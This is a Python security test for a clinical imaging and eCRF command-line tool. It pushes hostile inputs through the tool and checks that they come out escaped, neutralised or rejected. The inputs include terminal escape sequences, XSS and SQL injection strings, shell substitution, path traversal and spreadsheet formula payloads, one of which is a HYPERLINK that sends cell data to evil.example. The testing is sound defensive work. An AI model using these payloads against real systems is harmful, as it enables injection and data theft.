#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
# test-cli-hostile.py — hostile strings and tampered workspaces through curata-cli, every
# command run in a German locale (decimal comma) so that no number in JSON follows LC_NUMERIC:
#   * real DICOM files (MR_small, CT_small of ../shared/dicom) rewritten with pydicom to carry
#     ESC sequences, a newline, byte 0x1F in a UID, a C1 control, SQL, HTML and shell
#     metacharacters, path separators, bytes that are not UTF-8 and a 64 KB description:
#     stored as they are, `list` shows every control character escaped, `list --json` and
#     `deid-check --json` stay valid JSON and give the values back exactly;
#   * an eCRF whose pseudonyms are spreadsheet formulas, HTML, SQL, shell and a 64 KB value,
#     sent to a site whose name holds quotes, a backslash, a newline and control characters:
#     every --json output and every audit detail parses, the site report escapes the HTML,
#     answers.csv neutralises the formulas (leading apostrophe) and quotes correctly;
#   * a bundle whose "applied" mark cannot be written (a trigger refuses it): the import
#     fails and changes nothing, so it can never be applied twice;
#   * a quarantined PHI-bearing study (mr/philips_fmri_epi) whose gate is set to passed with
#     plain SQL: `anonymize` re-checks the files and holds it back (exit 3), while the demo
#     study still goes out.
# Usage: test-cli-hostile.py CURATA_CLI
import csv
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile

import pydicom

CLI = sys.argv[1]
SHARED = os.environ["CU_SHARED_DICOM"]
TMP = tempfile.mkdtemp(prefix="cu-test-hostile-")
WS = os.path.join(TMP, "ws")
LOCALES = os.path.join(TMP, "locales")
ENV = dict(os.environ, LOCPATH=LOCALES, LC_ALL="de_DE.UTF-8")

ESC_DESCRIPTION = "\x1b[2J\x1b]0;pwned\x07RED\x1b[31m\nfake line\x1f\x7f end"
HTML_SQL_SHELL = "<script>alert('x')</script>'; DROP TABLE study;-- $(touch pwned) `id` | ; & \u009b31m"
BIG_DESCRIPTION = "../../etc/" + "B" * 65000   # a 64 KB value, still an LO
NOT_UTF8 = b"caf\xe9 \xff\xfe\xc3("
SITE = 'Site "A" \\ back\nslash\t\x01 <b>&amp;'
PERSONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "'; DROP TABLE clinical_value;--",
    "<img src=x onerror=alert(1)>",
    'PX-"quoted",comma\\back',
    "PX-$(touch pwned)`id`",
    "../../etc/passwd",
    "LONG-" + "L" * 65000,
]


def cli(*args, check=True):
    p = subprocess.run([CLI, "--workspace", WS] + list(args), capture_output=True, env=ENV)
    out = p.stdout.decode("utf-8")   # fails the test on bytes that are not UTF-8
    err = p.stderr.decode("utf-8")
    if check and p.returncode != 0:
        raise AssertionError(f"curata-cli {' '.join(args)[:200]} → {p.returncode}\n{out[:2000]}\n{err[:2000]}")
    return p.returncode, out, err


def cli_json(*args, status=0):
    rc, out, err = cli(*args, check=False)
    assert rc == status, (args, rc, out[:2000], err[:2000])
    return json.loads(out)


def db():
    return sqlite3.connect(os.path.join(WS, "workspace.sqlite"))


def assert_terminal_safe(text, what):
    """No control character but newline reaches the terminal, C1 (U+0080…U+009F) included."""
    for i, ch in enumerate(text):
        o = ord(ch)
        if (o < 0x20 and ch != "\n" and ch != "\t") or o == 0x7F or 0x80 <= o <= 0x9F:
            raise AssertionError(f"{what}: raw control U+{o:04X} at {i}: {text[max(0, i - 40):i + 40]!r}")


def make_german_locale():
    os.makedirs(LOCALES)
    subprocess.run(["localedef", "-i", "de_DE", "-f", "UTF-8", os.path.join(LOCALES, "de_DE.UTF-8")],
                   check=True)
    # The locale really has a decimal comma (else this test could not fail).
    probe = subprocess.run(["/usr/bin/python3", "-c",
                            "import locale; locale.setlocale(locale.LC_ALL, ''); "
                            "print(locale.localeconv()['decimal_point'])"],
                           capture_output=True, text=True, env=ENV, check=True)
    assert probe.stdout.strip() == ",", probe


# ---- DICOM ----------------------------------------------------------------------------------

def hostile_dicom():
    folder = os.path.join(TMP, "hostile-dicom")
    os.makedirs(folder)
    mr = pydicom.dcmread(os.path.join(SHARED, "single", "MR_small.dcm"))
    mr.SpecificCharacterSet = "ISO_IR 192"
    mr.SeriesDescription = ESC_DESCRIPTION
    mr.StudyDescription = HTML_SQL_SHELL
    mr.save_as(os.path.join(folder, "mr.dcm"))
    # A UID with a control byte is not a UID: that file is rejected, and its reason names the
    # byte without printing it.
    bad = pydicom.dcmread(os.path.join(SHARED, "single", "MR_small.dcm"))
    bad.SeriesInstanceUID = bad.SeriesInstanceUID + ".7\x1f9"
    bad.SOPInstanceUID = bad.SOPInstanceUID + ".7"
    bad.save_as(os.path.join(folder, "bad-uid.dcm"))
    ct = pydicom.dcmread(os.path.join(SHARED, "single", "CT_small.dcm"))
    ct.SeriesDescription = BIG_DESCRIPTION
    ct.StudyDescription = NOT_UTF8   # written as these bytes, without a character set
    ct.save_as(os.path.join(folder, "ct.dcm"))
    return folder, mr.SeriesInstanceUID, ct.StudyInstanceUID


def test_dicom():
    folder, mr_series, ct_study = hostile_dicom()
    rc, out, err = cli("import", folder)
    assert_terminal_safe(out, "import")
    assert_terminal_safe(err, "import (stderr)")
    assert "bad-uid.dcm" in out + err and "\\x1" in (out + err).lower(), out + err

    rc, text, err = cli("list")
    assert_terminal_safe(text, "list")
    assert "\\x1b[2J" in text and "\\n" in text and "\\x1f" in text and "\\u009b" in text, text[:3000]
    # The newline of the description is shown, so "fake line" cannot start a line of its own.
    assert not any(line.startswith("fake line") for line in text.splitlines())

    listing = cli_json("list", "--json")
    found = {}
    for patient in listing["patients"]:
        for study in patient["studies"]:
            found[study["study_uid"]] = study["description"]
            for series in study["series"]:
                found[series["series_uid"]] = series["description"]
    assert found.get(mr_series) == ESC_DESCRIPTION, found.keys()
    assert BIG_DESCRIPTION in found.values()
    assert HTML_SQL_SHELL in found.values()
    assert found[ct_study] == NOT_UTF8.decode("latin-1"), found[ct_study]

    cli_json("deid-check", "--json", status=3)

    # Stored inert: the tables the SQL names are still there, the values are as sent.
    with db() as c:
        assert c.execute("SELECT count(*) FROM study").fetchone()[0] >= 2
        assert c.execute("SELECT count(*) FROM series WHERE series_uid = ?", (mr_series,)).fetchone()[0] == 1
    assert not os.path.exists(os.path.join(os.getcwd(), "pwned"))


# ---- eCRF, site bundle ----------------------------------------------------------------------

def write_ecrf(path):
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["person_id", "sex", "birth_year", "cancer_type", "diagnosis_date"])
        for p in PERSONS:
            w.writerow([p, "M", "1950", "prostate", "2020-01-01"])


def test_ecrf_and_bundle():
    ecrf = os.path.join(TMP, "ecrf.csv")
    bundle = os.path.join(TMP, "bundle")
    write_ecrf(ecrf)

    # A control character in a cell is refused, and said so in valid JSON and escaped text.
    bad = os.path.join(TMP, "bad.csv")
    with open(bad, "w", encoding="utf-8") as f:
        f.write("person_id,sex\nPX-\x1b[31m,M\n")
    report = cli_json("clinical", "import", bad, "--json", status=2)
    assert report["rejected"][0]["value"] == "PX-\x1b[31m", report
    rc, out, err = cli("clinical", "import", bad, check=False)
    assert rc == 2
    assert_terminal_safe(out, "clinical import")
    assert_terminal_safe(err, "clinical import (stderr)")

    report = cli_json("clinical", "import", ecrf, "--site", SITE, "--json")
    assert report["imported"] is True, report
    cli_json("flags", "check", "--json", status=3)
    exported = cli_json("flags", "export", "--site", SITE, "--out", bundle, "--json")
    assert exported["flags"] >= len(PERSONS), exported

    # Every audit detail is JSON; the bundle's names the site exactly.
    with db() as c:
        details = c.execute("SELECT action, detail FROM audit_log WHERE detail IS NOT NULL").fetchall()
    sites = []
    for action, detail in details:
        parsed = json.loads(detail)
        if action == "flags-export":
            sites.append(parsed["site"])
    assert sites == [SITE], sites

    # The report for the site: the values are text, not markup.
    with open(os.path.join(bundle, "report.html"), encoding="utf-8") as f:
        html = f.read()
    assert "<img src=x" not in html and "<script" not in html and "<b>&amp;" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html

    # answers.csv: formulas neutralised, everything else as it was, quoting intact.
    with open(os.path.join(bundle, "answers.csv"), encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    header, rows = rows[0], rows[1:]
    seen = set()
    for row in rows:
        assert len(row) == len(header), row
        for cell in row:
            assert cell == "" or cell[0] not in "=+@\t\r", row
            if cell.startswith("-"):
                float(cell)   # only a number may start with a minus sign
        person = row[header.index("person_id")]
        original = person[1:] if person[:1] == "'" and person[1:2] in "=+-@" else person
        seen.add(original)
        if original[:1] in "=+-@":
            assert person == "'" + original, person
    assert set(PERSONS) <= seen, set(PERSONS) - seen
    return bundle, header, rows


def test_bundle_not_applied_twice(bundle, header, rows):
    answers = os.path.join(bundle, "answers.csv")
    with open(answers, encoding="utf-8-sig", newline="") as f:
        all_rows = list(csv.reader(f))
    col = header.index("answer")
    for row in all_rows[1:]:
        row[col] = "checked with the source records"
    with open(answers, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows(all_rows)

    def states():
        with db() as c:
            return sorted(r[0] for r in c.execute("SELECT state FROM flag WHERE site = ?", (SITE,)))

    before = states()
    assert set(before) == {"sent"}, before
    with db() as c:
        c.execute("CREATE TRIGGER refuse_applied BEFORE UPDATE OF applied_at ON flag_bundle"
                  " BEGIN SELECT RAISE(ABORT, 'the test refuses this write'); END")
    rc, out, err = cli("flags", "import", bundle, check=False)
    assert rc == 2, (rc, out, err)
    assert "refuses" in err, err
    assert states() == before
    with db() as c:
        assert c.execute("SELECT count(*) FROM flag_bundle WHERE applied_at IS NOT NULL").fetchone()[0] == 0
        n_history = c.execute("SELECT count(*) FROM flag_event").fetchone()[0]
        c.execute("DROP TRIGGER refuse_applied")

    cli("flags", "import", bundle)
    assert set(states()) <= {"answered", "resolved"} and states() != before, states()
    rc, out, err = cli("flags", "import", bundle, check=False)
    assert rc == 2 and "already applied" in err, (rc, err)
    with db() as c:
        assert c.execute("SELECT count(*) FROM flag_event").fetchone()[0] > n_history


# ---- Exports re-check the gate --------------------------------------------------------------

def test_anonymize_rechecks_gate():
    cli("import", os.path.join(SHARED, "mr", "philips_fmri_epi"))
    listing = cli_json("list", "--json")
    studies = {s["description"]: s for p in listing["patients"] for s in p["studies"]}
    phi = studies["Konvertertest"]
    assert phi["gate"] == "quarantined", phi
    demo = next(s for s in studies.values() if s["gate"] == "passed")

    with db() as c:
        c.execute("UPDATE study_gate SET state = 'passed', n_errors = 0 WHERE study_ref ="
                  " (SELECT id FROM study WHERE study_uid = ?)", (phi["study_uid"],))
    assert cli_json("list", "--json") != listing   # the tampering shows as "passed"

    # The export obeys the release gate too: an open error flag holds the demo patient back
    # (XREF-01, no eCRF record in this test). Accepted as is, the flag no longer holds it, and
    # what is left to test here is the pseudonymization gate checked again.
    demo_pid = next(p["patient_id"] for p in listing["patients"]
                    for s in p["studies"] if s["study_uid"] == demo["study_uid"])
    flags = cli_json("flags", "list", "--person", demo_pid, "--state", "active", "--json")
    ids = [str(f["id"]) for f in (flags["flags"] if isinstance(flags, dict) else flags)
           if f["severity"] == "error"]
    if ids:
        cli("flags", "set", "accepted", *ids, "--comment", "known: no eCRF in this test")

    # A series nobody reviewed stays too: the curator accepts the demo's series first.
    for se in demo["series"]:
        cli("decide", se["series_uid"], "--state", "accepted")

    out_dir = os.path.join(TMP, "export")
    report = cli_json("anonymize", "--out", out_dir, "--json", phi["study_uid"], demo["study_uid"],
                      status=3)
    held = {h["study_uid"]: h["reason"] for h in report["held"]}
    assert phi["study_uid"] in held, report
    assert "outside Curata" in held[phi["study_uid"]], held
    assert demo["study_uid"] not in held, held
    # Exactly the demo study's files went out.
    assert len(report["written"]) == sum(se["instances"] for se in demo["series"]), report


try:
    make_german_locale()
    cli("demo", os.path.join(TMP, "demo"))
    cli("import", os.path.join(TMP, "demo"))
    test_dicom()
    test_bundle_not_applied_twice(*test_ecrf_and_bundle())
    test_anonymize_rechecks_gate()
    print("ok")
finally:
    shutil.rmtree(TMP, ignore_errors=True)
